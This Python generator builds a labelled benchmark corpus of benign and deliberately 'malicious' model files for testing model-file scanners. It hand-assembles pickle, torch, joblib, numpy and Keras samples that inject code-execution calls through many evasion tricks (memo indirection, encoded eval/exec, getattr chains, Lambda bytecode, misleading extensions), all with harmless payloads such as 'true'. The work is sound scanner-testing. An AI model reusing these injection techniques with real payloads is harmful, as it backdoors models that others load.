"""Generate the labelled model-file corpus for ``benchmarks/model_scan.py``.

Usage (in the benchmark virtualenv, see ``benchmarks/requirements-model-scan.txt``)::

    python benchmarks/model_corpus.py OUT_DIR --seed 7

Writes the files under ``OUT_DIR`` and ``OUT_DIR/labels.csv`` (path, label, format, technique, note), where
``label`` is ``malicious``, ``benign`` or ``invalid``. ``benign`` files are written by the real libraries
(torch, joblib, scikit-learn, numpy, safetensors, onnx, gguf, h5py); ``malicious`` files are hand-assembled
pickle opcodes, archives and configs that carry a *harmless* payload — every command is ``true``, every
evaluated string is ``1+1`` / ``x = 1``, nothing is written or fetched — so nothing bad happens even if one
is loaded by mistake. Never load them anyway: the point is that scanners must not need to.

Nothing here ever unpickles or loads a malicious file; the generator only checks its own pickles with
``pickletools`` (a static disassembler).

Keep generated corpora out of git: write them to a temporary folder or ``benchmarks/.corpus/`` (ignored).
"""

from __future__ import annotations

import argparse
import base64
import csv
import gzip
import importlib.metadata
import io
import json
import marshal
import os
import pickle
import pickletools
import random
import shutil
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# --------------------------------------------------------------------------------------------- labels


@dataclass
class Entry:
    path: str
    label: str  # malicious / benign / invalid
    format: str
    technique: str
    note: str = ""


class Corpus:
    def __init__(self, root: Path, seed: int) -> None:
        self.root = root
        self.seed = seed
        self.rng = random.Random(seed)
        self.entries: list[Entry] = []

    def write(self, rel: str, data: bytes, label: str, fmt: str, technique: str, note: str = "") -> Path:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.add(rel, label, fmt, technique, note)
        return path

    def add(self, rel: str, label: str, fmt: str, technique: str, note: str = "") -> None:
        assert (self.root / rel).is_file(), rel
        assert label in {"malicious", "benign", "invalid"}, label
        self.entries.append(Entry(rel, label, fmt, technique, note))

    def path(self, rel: str) -> Path:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        return path

    def save_labels(self) -> None:
        with (self.root / "labels.csv").open("w", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(["path", "label", "format", "technique", "note"])
            for e in sorted(self.entries, key=lambda e: e.path):
                writer.writerow([e.path, e.label, e.format, e.technique, e.note])


# ------------------------------------------------------------------------------ pickle opcode assembler
# Small helpers that emit raw opcodes; the malicious pickles are assembled by hand so that every evasion
# is exactly the one named, independent of how CPython's pickler would have written it.

PROTO = lambda n: b"\x80" + bytes([n])  # noqa: E731
MARK, STOP, POP, TUPLE, TUPLE1, TUPLE2, REDUCE, BUILD = b"(", b".", b"0", b"t", b"\x85", b"\x86", b"R", b"b"
EMPTY_TUPLE, EMPTY_DICT, EMPTY_LIST, APPENDS = b")", b"}", b"]", b"e"
STACK_GLOBAL, MEMOIZE, NEWOBJ, NEWOBJ_EX, OBJ = b"\x93", b"\x94", b"\x81", b"\x92", b"o"


def G0(module: str, name: str) -> bytes:
    """GLOBAL (protocols 0-3): ``c module\\n name\\n``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def INST(module: str, name: str) -> bytes:
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def S0(s: str) -> bytes:
    """STRING (protocol 0 text)."""
    return b"S'" + s.encode() + b"'\n"


def U(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    raw = s.encode()
    return (b"\x8c" + bytes([len(raw)]) + raw) if len(raw) < 256 else (b"X" + struct.pack("<I", len(raw)) + raw)


def BU(s: str) -> bytes:
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def BB(b: bytes) -> bytes:
    """SHORT_BINBYTES / BINBYTES (protocol 3+)."""
    return (b"C" + bytes([len(b)]) + b) if len(b) < 256 else (b"B" + struct.pack("<I", len(b)) + b)


def BINPUT(i: int) -> bytes:
    return b"q" + bytes([i])


def BINGET(i: int) -> bytes:
    return b"h" + bytes([i])


def LONG_BINPUT(i: int) -> bytes:
    return b"r" + struct.pack("<I", i)


def LONG_BINGET(i: int) -> bytes:
    return b"j" + struct.pack("<I", i)


def SG(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+)."""
    return U(module) + U(name) + STACK_GLOBAL


def check_pickle(data: bytes) -> None:
    """Static well-formedness check of our own assembled pickle (disassembly only; nothing is executed)."""
    pickletools.dis(data, out=io.StringIO())


def injected(original: bytes, payload_call: bytes) -> bytes:
    """Insert ``payload_call`` (opcodes leaving one value on the stack) + POP right after the PROTO header of a
    real pickle — the way fickling-style injection backdoors a real model and keeps it loading normally."""
    assert original[:1] == b"\x80", "expected a PROTO header"
    return original[:2] + payload_call + POP + original[2:]


# The harmless payload calls (each leaves one value on the stack); protocol 2 flavour so they can be injected
# into any pickle of protocol >= 2.
SYSTEM_TRUE_P2 = G0("posix", "system") + BU("true") + TUPLE1 + REDUCE


# --------------------------------------------------------------------------------------- raw pickles


def malicious_pickles(c: Corpus) -> None:
    d = "pickle"

    def put(name: str, data: bytes, technique: str, note: str = "", fmt: str = "pickle", check: bool = True) -> None:
        if check:
            check_pickle(data)
        c.write(f"{d}/{name}", data, "malicious", fmt, technique, note)

    # Plain GLOBAL + REDUCE, protocols 0 and 2.
    put("p0_global_reduce.pkl", G0("os", "system") + MARK + S0("true") + TUPLE + REDUCE + STOP,
        "global_reduce_p0", "os.system('true'), protocol 0 text opcodes")
    put("p2_global_reduce.pkl", PROTO(2) + G0("posix", "system") + BU("true") + TUPLE1 + REDUCE + STOP,
        "global_reduce_p2", "posix.system('true'), protocol 2")
    # STACK_GLOBAL, protocols 4 and 5.
    put("p4_stack_global.pkl", PROTO(4) + SG("os", "system") + U("true") + TUPLE1 + REDUCE + STOP,
        "stack_global_p4", "os.system('true') via STACK_GLOBAL")
    put("p5_stack_global.pkl", PROTO(5) + SG("builtins", "eval") + U("1+1") + TUPLE1 + REDUCE + STOP,
        "stack_global_p5", "builtins.eval('1+1') via STACK_GLOBAL, protocol 5")
    # Memo indirection: module/name strings stored in the memo, popped, later fetched with BINGET.
    put("p4_memo_indirection.pkl",
        PROTO(4) + U("os") + BINPUT(1) + POP + U("nothing-to-see") + BINPUT(2) + POP + U("system") + BINPUT(3) + POP
        + BINGET(1) + BINGET(3) + STACK_GLOBAL + U("true") + TUPLE1 + REDUCE + STOP,
        "memo_binput_binget", "STACK_GLOBAL operands fetched with BINGET after POP")
    put("p4_memoize_long_binget.pkl",
        PROTO(4) + U("subprocess") + MEMOIZE + U("Popen") + MEMOIZE + POP + POP + U("x") + POP
        + LONG_BINGET(0) + LONG_BINGET(1) + STACK_GLOBAL + EMPTY_LIST + U("true") + b"a" + TUPLE1 + REDUCE + STOP,
        "memo_memoize_long_binget", "subprocess.Popen(['true']) with MEMOIZE / LONG_BINGET")
    put("p2_memo_text_put_get.pkl",
        b"(" + S0("os") + b"p1\n" + S0("system") + b"p2\n" + b"l" + POP  # list of the names, dropped
        + G0("builtins", "getattr") + MARK + G0("builtins", "__import__") + MARK + b"g1\n" + TUPLE + REDUCE
        + b"g2\n" + TUPLE + REDUCE + MARK + S0("true") + TUPLE + REDUCE + STOP,
        "memo_put_get_text_getattr", "getattr(__import__(memo[1]), memo[2])('true'), text PUT/GET")
    # INST, OBJ, NEWOBJ, NEWOBJ_EX.
    put("p0_inst.pkl", MARK + S0("true") + INST("os", "system") + STOP, "inst", "INST os.system 'true'")
    put("p1_obj.pkl", MARK + G0("os", "system") + S0("true") + OBJ + STOP, "obj", "OBJ os.system 'true'")
    put("p2_newobj.pkl", PROTO(2) + G0("subprocess", "Popen") + MARK + BU("true") + TUPLE + NEWOBJ + STOP,
        "newobj", "NEWOBJ subprocess.Popen (cls.__new__ only)")
    put("p4_newobj_ex.pkl", PROTO(4) + SG("subprocess", "Popen") + EMPTY_TUPLE + EMPTY_DICT + NEWOBJ_EX + STOP,
        "newobj_ex", "NEWOBJ_EX subprocess.Popen")
    # getattr chains.
    put("p2_getattr_import.pkl",
        PROTO(2) + G0("builtins", "getattr") + G0("builtins", "__import__") + BU("os") + TUPLE1 + REDUCE
        + BU("system") + TUPLE2 + REDUCE + BU("true") + TUPLE1 + REDUCE + STOP,
        "getattr_chain", "builtins.getattr(__import__('os'), 'system')('true')")
    put("p4_getattr_sys_modules.pkl",
        PROTO(4) + SG("builtins", "getattr") + SG("_operator", "getitem") + SG("sys", "modules") + U("os") + TUPLE2
        + REDUCE + U("system") + TUPLE2 + REDUCE + U("true") + TUPLE1 + REDUCE + STOP,
        "getattr_sys_modules", "getattr(sys.modules['os'], 'system')('true')")
    put("p4_importlib_chain.pkl",
        PROTO(4) + SG("builtins", "getattr") + SG("importlib", "import_module") + U("os") + TUPLE1 + REDUCE
        + U("system") + TUPLE2 + REDUCE + U("true") + TUPLE1 + REDUCE + STOP,
        "importlib_chain", "getattr(importlib.import_module('os'), 'system')('true')")
    put("p4_dotted_stack_global.pkl",
        PROTO(4) + SG("os", "path.os.system") + U("true") + TUPLE1 + REDUCE + STOP,
        "dotted_name_stack_global", "STACK_GLOBAL('os', 'path.os.system') — dotted attribute walk")
    # eval / exec of decoded strings.
    put("p4_eval_b64.pkl",
        PROTO(4) + SG("builtins", "eval") + SG("base64", "b64decode") + U(base64.b64encode(b"1+1").decode())
        + TUPLE1 + REDUCE + TUPLE1 + REDUCE + STOP,
        "eval_base64", "eval(base64.b64decode('MSsx'))")
    put("p4_exec_fromhex.pkl",
        PROTO(4) + SG("builtins", "exec") + SG("builtins", "bytes.fromhex") + U(b"x = 1".hex()) + TUPLE1 + REDUCE
        + TUPLE1 + REDUCE + STOP,
        "exec_bytes_fromhex", "exec(bytes.fromhex('78203d2031'))")
    put("p2_exec_codecs.pkl",
        PROTO(2) + G0("__builtin__", "exec") + G0("_codecs", "decode") + BU("k = 1") + BU("rot13") + TUPLE2 + REDUCE
        + TUPLE1 + REDUCE + STOP,
        "exec_codecs_rot13", "exec(codecs.decode('k = 1', 'rot13'))")
    put("p2_subprocess_popen.pkl",
        PROTO(2) + G0("subprocess", "Popen") + EMPTY_LIST + BU("true") + b"a" + TUPLE1 + REDUCE + STOP,
        "subprocess_popen", "subprocess.Popen(['true'])")
    put("p2_subprocess_check_output.pkl",
        PROTO(2) + G0("subprocess", "check_output") + EMPTY_LIST + BU("true") + b"a" + TUPLE1 + REDUCE + STOP,
        "subprocess_check_output", "subprocess.check_output(['true'])")
    put("p2_runpy_run_code.pkl",
        PROTO(2) + G0("runpy", "_run_code") + BU("x = 1") + EMPTY_DICT + TUPLE2 + REDUCE + STOP,
        "runpy_run_code", "runpy._run_code('x = 1', {})")
    code = marshal.dumps(compile("1+1", "<anzhi-bench>", "eval"))
    put("p4_marshal_function.pkl",
        PROTO(4) + SG("types", "FunctionType") + SG("marshal", "loads") + BB(code) + TUPLE1 + REDUCE + EMPTY_DICT
        + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP,
        "marshal_code_object", "types.FunctionType(marshal.loads(<code 1+1>), {})()")
    put("p4_numpy_runstring.pkl",
        PROTO(4) + SG("numpy.testing._private.utils", "runstring") + U("x = 1") + EMPTY_DICT + TUPLE2 + REDUCE + STOP,
        "allowlisted_module_gadget", "numpy.testing._private.utils.runstring('x = 1', {}) — exec inside numpy")
    put("p2_functools_partial.pkl",
        PROTO(2) + G0("functools", "partial") + G0("os", "system") + BU("true") + TUPLE2 + REDUCE + EMPTY_TUPLE
        + REDUCE + STOP, "functools_partial", "functools.partial(os.system, 'true')()")
    inner = PROTO(2) + SYSTEM_TRUE_P2 + STOP
    put("p3_nested_pickle_loads.pkl",
        PROTO(3) + G0("pickle", "loads") + BB(inner) + TUPLE1 + REDUCE + STOP,
        "nested_pickle_loads", "pickle.loads(<inner posix.system pickle>)")
    # STACK_GLOBAL whose module and name are computed at load time, not literals in the stream.
    put("p4_stack_global_computed.pkl",
        PROTO(4) + SG("_operator", "add") + U("o") + U("s") + TUPLE2 + REDUCE
        + SG("_operator", "add") + U("sys") + U("tem") + TUPLE2 + REDUCE + STACK_GLOBAL
        + U("true") + TUPLE1 + REDUCE + STOP,
        "stack_global_computed_operands", "STACK_GLOBAL(operator.add('o','s'), operator.add('sys','tem'))('true')")
    put("p4_stack_global_rot13.pkl",
        PROTO(4) + SG("_codecs", "decode") + U("bf") + U("rot13") + TUPLE2 + REDUCE
        + SG("_codecs", "decode") + U("flfgrz") + U("rot13") + TUPLE2 + REDUCE + STACK_GLOBAL
        + U("true") + TUPLE1 + REDUCE + STOP,
        "stack_global_rot13_operands", "STACK_GLOBAL(codecs.decode('bf','rot13'), ...'flfgrz'...)('true')")
    put("p2_nt_system.pkl", PROTO(2) + G0("nt", "system") + BU("true") + TUPLE1 + REDUCE + STOP,
        "os_alias_nt", "nt.system('true') — the Windows name of os.system")
    put("p2_builtins_open_write.pkl",
        PROTO(2) + G0("builtins", "open") + BU("/dev/null") + BU("w") + TUPLE2 + REDUCE + STOP,
        "builtins_open_write", "open('/dev/null', 'w') — file write access")
    # A benign pickle followed by a malicious one in the same file.
    benign = pickle.dumps({"weights": [0.1, 0.2], "epoch": 3}, protocol=4)
    put("stacked_benign_then_malicious.pkl",
        benign + PROTO(4) + SG("os", "system") + U("true") + TUPLE1 + REDUCE + STOP,
        "stacked_second_pickle", "pickle.load reads only the first; torch legacy / joblib read several", check=False)
    check_pickle(benign)
    # Canonical __reduce__ pickles written by CPython's own pickler, every protocol 0-5.
    for proto in range(6):
        data = pickle.dumps(_Reduce(), protocol=proto)
        put(f"reduce_os_system_p{proto}.pkl", data, f"reduce_protocol_{proto}",
            "pickle.dumps of an object whose __reduce__ is (os.system, ('true',))")
    # Misleading names / extensions (content is a plain raw pickle).
    payload = PROTO(4) + SG("os", "system") + U("true") + TUPLE1 + REDUCE + STOP
    check_pickle(payload)
    for rel, technique in [
        ("misleading/weights.txt", "misleading_extension_txt"),
        ("misleading/model.safetensors", "misleading_extension_safetensors"),
        ("misleading/config.json", "misleading_extension_json"),
        ("misleading/README", "misleading_no_extension"),
        ("misleading/model.onnx", "misleading_extension_onnx"),
    ]:
        c.write(rel, payload, "malicious", "pickle", technique, "raw os.system pickle behind a non-pickle name")


class _Reduce:
    """Only ever *dumped* by the generator; loading the result would run ``os.system('true')``."""

    def __reduce__(self) -> tuple[Callable[..., int], tuple[str]]:
        return (os.system, ("true",))


def benign_pickles(c: Corpus) -> None:
    import collections

    data = {"layers": [1, 2, 3], "name": "mlp", "lr": 1e-3, "tags": ("a", "b"), "blob": b"\x00\x01"}
    for proto in (0, 2, 4, 5):
        c.write(f"pickle/benign_builtin_types_p{proto}.pkl", pickle.dumps(data, protocol=proto), "benign", "pickle",
                f"builtin_types_p{proto}", "dict/list/tuple/bytes only")
    od = collections.OrderedDict([("w", [0.5, 0.25]), ("b", [0.0])])
    c.write("pickle/benign_ordereddict.pkl", pickle.dumps(od, protocol=2), "benign", "pickle",
            "collections_ordereddict", "collections.OrderedDict")
    import datetime
    import decimal

    import numpy as np

    rich = {"when": datetime.datetime(2024, 1, 2, 3, 4, 5), "price": decimal.Decimal("1.25"), "z": complex(1, 2),
            "ids": {1, 2, 3}, "frozen": frozenset({"a"}), "counts": collections.defaultdict(list, {"x": [1]}),
            "ba": bytearray(b"ab"), "rng": range(3), "sl": slice(1, 5)}
    c.write("pickle/benign_stdlib_types_p4.pkl", pickle.dumps(rich, protocol=4), "benign", "pickle",
            "stdlib_types", "datetime, Decimal, complex, set, frozenset, defaultdict(list), bytearray, range, slice")
    c.write("pickle/benign_stdlib_types_p2.pkl", pickle.dumps(rich, protocol=2), "benign", "pickle",
            "stdlib_types_p2", "same at protocol 2 (builtins as __builtin__, copyreg._reconstructor)")
    arr = {"w": np.arange(12, dtype=np.float32).reshape(3, 4), "mask": np.array([True, False]), "s": np.float64(2.5)}
    c.write("pickle/benign_numpy_arrays_p5.pkl", pickle.dumps(arr, protocol=5), "benign", "pickle", "numpy_arrays",
            "pickle.dumps of numpy arrays and a numpy scalar")
    two = pickle.dumps({"a": 1}, protocol=4) + pickle.dumps([1, 2, 3], protocol=4)
    c.write("pickle/benign_two_pickles.pkl", two, "benign", "pickle", "stacked_benign",
            "two benign pickles back to back")


# ------------------------------------------------------------------------------------------- PyTorch


def _zip_bytes(members: list[tuple[str, bytes]], compress: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as zf:
        for name, payload in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = compress
            zf.writestr(info, payload)
    return buf.getvalue()


def _torch_members(raw: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        return [(i.filename, zf.read(i)) for i in zf.infolist()]


def _rename_top(members: list[tuple[str, bytes]], top: str) -> list[tuple[str, bytes]]:
    return [(top + "/" + name.split("/", 1)[1], payload) for name, payload in members]


def torch_files(c: Corpus) -> None:
    import torch

    torch.manual_seed(c.seed)
    model = torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    optimizer = torch.optim.Adam(model.parameters(), lr=1e-3)
    loss = model(torch.randn(3, 8)).sum()
    loss.backward()
    optimizer.step()

    def saved(obj: object, **kw: object) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        return buf.getvalue()

    state = saved(model.state_dict())
    ckpt = saved({"model": model.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 7, "loss": 0.25,
                  "config": {"hidden": 4, "act": "relu"}})
    legacy = saved(model.state_dict(), _use_new_zipfile_serialization=False)
    c.write("torch/state_dict.pt", state, "benign", "pytorch-zip", "torch_save_state_dict",
            f"torch {torch.__version__}")
    c.write("torch/checkpoint.pth", ckpt, "benign", "pytorch-zip", "torch_save_checkpoint",
            "model + Adam optimizer state + epoch")
    c.write("torch/pytorch_model.bin", state, "benign", "pytorch-zip", "torch_save_hf_name", "HF-style file name")
    c.write("torch/legacy_state_dict.pt", legacy, "benign", "pytorch-legacy", "torch_save_legacy",
            "_use_new_zipfile_serialization=False")
    import random as pyrandom

    import numpy as np

    rng_ckpt = {"model": model.state_dict(), "step": 1200,
                "rng": {"python": pyrandom.Random(c.seed).getstate(),
                        "numpy": np.random.RandomState(c.seed).get_state(), "torch": torch.get_rng_state()}}
    c.write("torch/checkpoint_rng_state.pt", saved(rng_ckpt), "benign", "pytorch-zip", "torch_save_rng_states",
            "checkpoint with python/numpy/torch RNG states (numpy arrays inside the pickle)")
    c.write("torch/full_model.pt", saved(model), "benign", "pytorch-zip", "torch_save_full_module",
            "torch.save(nn.Sequential) — pickles torch.nn module classes, as YOLO-style checkpoints do")
    tensors = saved({"embedding": torch.randn(16, 4), "ids": torch.arange(10),
                     "half": torch.ones(3, dtype=torch.float16)})
    c.write("torch/tensors.ckpt", tensors, "benign", "pytorch-zip", "torch_save_tensor_dict", "several dtypes")

    members = _torch_members(state)
    top = members[0][0].split("/", 1)[0]
    # Malicious: injected into the real data.pkl, top folder renamed to something non-standard.
    evil = []
    for name, payload in members:
        if name.endswith("/data.pkl"):
            payload = injected(payload, SYSTEM_TRUE_P2)
            check_pickle(payload)
        evil.append((name, payload))
    c.write("torch/injected_state_dict.pt", _zip_bytes(evil), "malicious", "pytorch-zip", "torch_zip_injected",
            f"posix.system injected into {top}/data.pkl of a real state dict")
    c.write("torch/renamed_top_folder.bin", _zip_bytes(_rename_top(evil, "weights_v2_final")), "malicious",
            "pytorch-zip", "torch_zip_nonstandard_top_folder", "data.pkl under weights_v2_final/")
    replaced = [(n, (PROTO(2) + SYSTEM_TRUE_P2 + STOP) if n.endswith("/data.pkl") else p) for n, p in members]
    c.write("torch/replaced_data_pkl.pth", _zip_bytes(_rename_top(replaced, "x")), "malicious", "pytorch-zip",
            "torch_zip_replaced_data_pkl", "data.pkl is only the payload, top folder 'x'")
    c.write("torch/torch_zip_named.txt", _zip_bytes(_rename_top(evil, "archive")), "malicious", "pytorch-zip",
            "torch_zip_misleading_extension", "torch zip with payload, named .txt")
    # Legacy format: five pickles back to back; inject into the 4th (the data pickle).
    starts = [0]
    stream = io.BytesIO(legacy)
    for _ in range(4):
        for _op, _arg, _pos in pickletools.genops(stream):
            pass
        starts.append(stream.tell())
    data_start, data_end = starts[3], starts[4]
    evil_legacy = legacy[:data_start] + injected(legacy[data_start:data_end], SYSTEM_TRUE_P2) + legacy[data_end:]
    c.write("torch/legacy_injected.pt", evil_legacy, "malicious", "pytorch-legacy", "torch_legacy_injected",
            "posix.system injected into the 4th (data) pickle of a legacy torch.save")
    evil_magic = injected(legacy[: starts[1]], SYSTEM_TRUE_P2) + legacy[starts[1]:]
    c.write("torch/legacy_injected_magic.bin", evil_magic, "malicious", "pytorch-legacy",
            "torch_legacy_injected_first_pickle", "payload in the magic-number pickle")


# --------------------------------------------------------------------------------------------- NumPy


def numpy_files(c: Corpus) -> None:
    import numpy as np

    rs = np.random.RandomState(c.seed)
    for rel, arr, tech in [
        ("numpy/float32.npy", rs.rand(16, 8).astype(np.float32), "npy_float32"),
        ("numpy/int64.npy", np.arange(100, dtype=np.int64), "npy_int64"),
        ("numpy/structured.npy", np.zeros(4, dtype=[("x", "<f4"), ("y", "<i2")]), "npy_structured_dtype"),
    ]:
        buf = io.BytesIO()
        np.save(buf, arr)
        c.write(rel, buf.getvalue(), "benign", "numpy-npy", tech)
    for rel, fn, tech in [("numpy/weights.npz", np.savez, "npz"), ("numpy/weights_compressed.npz", np.savez_compressed,
                                                                      "npz_compressed")]:
        buf = io.BytesIO()
        fn(buf, w=rs.rand(4, 4), b=np.zeros(4), step=np.array(3))
        c.write(rel, buf.getvalue(), "benign", "numpy-npz", tech)

    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    payload = PROTO(3) + G0("posix", "system") + BU("true") + TUPLE1 + REDUCE + STOP
    check_pickle(payload)
    # write_array_header_1_0 writes magic + header for numpy >= 1.x
    head = header.getvalue()
    assert head.startswith(b"\x93NUMPY"), head[:8]
    evil_npy = head + payload
    c.write("numpy/object_array.npy", evil_npy, "malicious", "numpy-npy", "npy_object_array_pickle",
            "dtype |O, the array body is a posix.system pickle")
    good = io.BytesIO()
    np.save(good, np.ones(3))
    c.write("numpy/object_in_npz.npz", _zip_bytes([("weights.npy", good.getvalue()), ("meta.npy", evil_npy)]),
            "malicious", "numpy-npz", "npz_object_member", "npz with a numeric and an object (pickle) member")
    c.write("numpy/object_array_named.dat", evil_npy, "malicious", "numpy-npy", "npy_object_misleading_extension",
            "object .npy named .dat")


# -------------------------------------------------------------------------------- joblib / sklearn


def sklearn_files(c: Corpus) -> None:
    import joblib
    import sklearn
    from sklearn.datasets import make_classification
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    x, y = make_classification(n_samples=120, n_features=6, random_state=c.seed)
    models = {
        "logreg": LogisticRegression(max_iter=200).fit(x, y),
        "random_forest": RandomForestClassifier(n_estimators=3, max_depth=3, random_state=c.seed).fit(x, y),
        "pipeline": Pipeline([("scale", StandardScaler()), ("clf", LogisticRegression(max_iter=200))]).fit(x, y),
    }
    import numpy as np
    from sklearn.linear_model import SGDClassifier
    from sklearn.preprocessing import FunctionTransformer

    models["sgd_randomstate"] = SGDClassifier(random_state=np.random.RandomState(c.seed), max_iter=20,
                                              tol=None).fit(x, y)
    models["log1p_pipeline"] = Pipeline([("log", FunctionTransformer(np.log1p)), ("scale", StandardScaler()),
                                         ("clf", LogisticRegression(max_iter=200))]).fit(np.abs(x), y)
    note = f"scikit-learn {sklearn.__version__}, joblib {joblib.__version__}"
    for name, model in models.items():
        buf = io.BytesIO()
        joblib.dump(model, buf)
        c.write(f"sklearn/{name}.joblib", buf.getvalue(), "benign", "joblib", f"joblib_{name}", note)
        c.write(f"sklearn/{name}.pkl", pickle.dumps(model, protocol=5), "benign", "pickle", f"pickle_{name}", note)
    buf = io.BytesIO()
    joblib.dump(models["pipeline"], buf, compress=("zlib", 3))
    c.write("sklearn/pipeline_zlib.joblib", buf.getvalue(), "benign", "joblib", "joblib_compressed_zlib", note)

    buf = io.BytesIO()
    joblib.dump(models["logreg"], buf)
    evil = injected(buf.getvalue(), SYSTEM_TRUE_P2)
    c.write("sklearn/logreg_injected.joblib", evil, "malicious", "joblib", "joblib_injected",
            "posix.system injected ahead of a real joblib LogisticRegression")
    c.write("sklearn/logreg_injected_zlib.joblib", zlib.compress(evil, 3), "malicious", "joblib",
            "joblib_compressed_injected", "zlib-compressed joblib stream with the payload")
    evil_pkl = injected(pickle.dumps(models["random_forest"], protocol=5), SYSTEM_TRUE_P2)
    check_pickle(evil_pkl)
    c.write("sklearn/random_forest_injected.pkl", evil_pkl, "malicious", "pickle", "sklearn_pickle_injected",
            "posix.system injected into a real RandomForest pickle")


# -------------------------------------------------------------------------------------------- Keras


def _lambda_code_b64() -> str:
    fn = lambda x: __import__("os").system("true") or x  # noqa: E731  (never called)
    return base64.b64encode(marshal.dumps(fn.__code__)).decode()


def _h5_bytes(build: Callable[[object], None]) -> bytes:
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        build(f)
    return buf.getvalue()


def _dense(name: str, units: int) -> dict:
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
            "config": {"name": name, "trainable": True, "dtype": "float32", "units": units, "activation": "relu",
                       "use_bias": True, "kernel_initializer": {"module": "keras.initializers",
                                                                "class_name": "GlorotUniform", "config": {"seed": None},
                                                                "registered_name": None},
                       "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {},
                                            "registered_name": None}}}


def _keras3_config(extra_layers: list[dict]) -> dict:
    layers = [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
               "config": {"batch_shape": [None, 8], "dtype": "float32", "sparse": False, "name": "input_layer"}},
              _dense("dense", 4), *extra_layers, _dense("dense_1", 2)]
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "trainable": True, "dtype": "float32", "layers": layers},
            "build_config": {"input_shape": [None, 8]},
            "compile_config": {"optimizer": "adam", "loss": "mse", "metrics": None}}


def _keras_zip(config: dict, rng: random.Random) -> bytes:
    import numpy as np

    def weights(f: object) -> None:
        for layer, shape in (("dense", (8, 4)), ("dense_1", (4, 2))):
            g = f.create_group(f"_layer_checkpoint_dependencies/{layer}/vars")  # type: ignore[attr-defined]
            g.create_dataset("0", data=np.full(shape, rng.random(), dtype=np.float32))
            g.create_dataset("1", data=np.zeros(shape[1], dtype=np.float32))

    meta = {"keras_version": "3.8.0", "date_saved": "2024-01-01@00:00:00"}
    return _zip_bytes([("metadata.json", json.dumps(meta).encode()), ("config.json", json.dumps(config).encode()),
                       ("model.weights.h5", _h5_bytes(weights))], zipfile.ZIP_DEFLATED)


def keras_files(c: Corpus) -> None:
    import numpy as np

    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": "Lambda",
           "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                      "function": {"class_name": "__lambda__",
                                   "config": {"code": _lambda_code_b64(), "defaults": None, "closure": None}},
                      "arguments": {}}}
    c.write("keras/lambda_layer.keras", _keras_zip(_keras3_config([lam]), c.rng), "malicious", "keras-v3",
            "keras_lambda_layer", "Keras 3 Lambda layer with marshalled bytecode (os.system('true'))")
    c.write("keras/classifier.keras", _keras_zip(_keras3_config([]), c.rng), "benign", "keras-v3",
            "keras_standard_layers", "hand-built config.json: InputLayer + Dense, no TF needed")
    c.write("keras/lambda_layer_named.zip", _keras_zip(_keras3_config([lam]), c.rng), "malicious", "keras-v3",
            "keras_lambda_misleading_extension", "Keras 3 Lambda archive named .zip")

    def legacy(model_layers: list[dict]) -> Callable[[object], None]:
        def build(f: object) -> None:
            config = {"class_name": "Sequential", "config": {"name": "sequential", "layers": model_layers}}
            f.attrs["model_config"] = json.dumps(config)  # type: ignore[attr-defined]
            f.attrs["keras_version"] = "2.15.0"  # type: ignore[attr-defined]
            f.attrs["backend"] = "tensorflow"  # type: ignore[attr-defined]
            w = f.create_group("model_weights")  # type: ignore[attr-defined]
            d = w.create_group("dense/dense")
            d.create_dataset("kernel:0", data=np.ones((8, 4), dtype=np.float32))
            d.create_dataset("bias:0", data=np.zeros(4, dtype=np.float32))
        return build

    dense2 = {"class_name": "Dense", "config": {"name": "dense", "units": 4, "activation": "relu",
                                                "batch_input_shape": [None, 8]}}
    lam2 = {"class_name": "Lambda", "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                                               "function": [_lambda_code_b64(), None, None],
                                               "function_type": "lambda", "module": "__main__",
                                               "output_shape": None, "output_shape_type": "raw",
                                               "output_shape_module": None, "arguments": {}}}
    c.write("keras/legacy_lambda.h5", _h5_bytes(legacy([dense2, lam2])), "malicious", "hdf5",
            "h5_lambda_marshal", "Keras 2 H5, model_config with a marshalled Lambda")
    c.write("keras/legacy_lambda.hdf5", _h5_bytes(legacy([dense2, lam2])), "malicious", "hdf5",
            "h5_lambda_other_extension", "same, .hdf5 extension")
    c.write("keras/legacy_dense.h5", _h5_bytes(legacy([dense2])), "benign", "hdf5", "h5_keras2_standard_layers",
            "Keras 2 H5 with Dense only")

    def plain(f: object) -> None:
        g = f.create_group("layer_0")  # type: ignore[attr-defined]
        g.create_dataset("weight", data=np.arange(32, dtype=np.float32).reshape(8, 4))
        g.create_dataset("bias", data=np.zeros(4, dtype=np.float32))
        f.attrs["framework"] = "custom"  # type: ignore[attr-defined]

    c.write("keras/plain_weights.h5", _h5_bytes(plain), "benign", "hdf5", "h5_plain_weights", "plain HDF5 datasets")


# --------------------------------------------------------------------------------------------- ONNX


